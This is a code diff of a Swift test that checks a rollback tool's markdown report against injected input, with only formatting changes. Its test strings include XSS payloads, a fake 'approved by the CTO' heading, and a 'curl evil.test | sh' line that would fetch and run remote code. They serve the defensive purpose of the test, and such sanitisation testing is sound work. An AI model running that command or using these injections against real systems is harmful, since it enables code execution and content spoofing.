@@ -33,7 +33,8 @@ struct ReportMarkdownTests {
         let evil = try f.clone.commit("fix | <img src=x onerror=alert(1)> **bold** [link](http://evil.test)")
         _ = try f.clone.push("-q", "origin", "main")
         try f.scratch.git("push", "-q", f.daemon.basePath + "/prod.git", "\(evil):refs/heads/master", in: f.work)
-        let reason = "db down | see #12\n# Rollback approved by the CTO\n<script>alert(1)</script>\n```sh\ncurl evil.test | sh\n```\n## Undo\n[click](http://evil.test) `x`"
+        let reason =
+            "db down | see #12\n# Rollback approved by the CTO\n<script>alert(1)</script>\n```sh\ncurl evil.test | sh\n```\n## Undo\n[click](http://evil.test) `x`"
         let report = f.scratch.root + "/report.md"
         let result = try f.revert("v1.0.0", "--yes", "--reason", reason, "--report", report)
         #expect(result.status == 0, "\(result.stderr)")
@@ -41,8 +42,9 @@ struct ReportMarkdownTests {
         let lines = markdown.components(separatedBy: "\n")
 
         // Only the report's own headings, and one code block: the undo commands.
-        #expect(lines.filter { $0.hasPrefix("#") }
-            == ["# Rollback report: prod → v1.0.0", "## Targets", "## Commits taken out of prod", "## Backup", "## Undo", "## Record"],
+        #expect(
+            lines.filter { $0.hasPrefix("#") }
+                == ["# Rollback report: prod → v1.0.0", "## Targets", "## Commits taken out of prod", "## Backup", "## Undo", "## Record"],
             "\(markdown)")
         #expect(lines.filter { $0.hasPrefix("```") }.count == 2, "\(markdown)")
         let undo = lines.drop { $0 != "```sh" }.dropFirst().prefix { $0 != "```" }
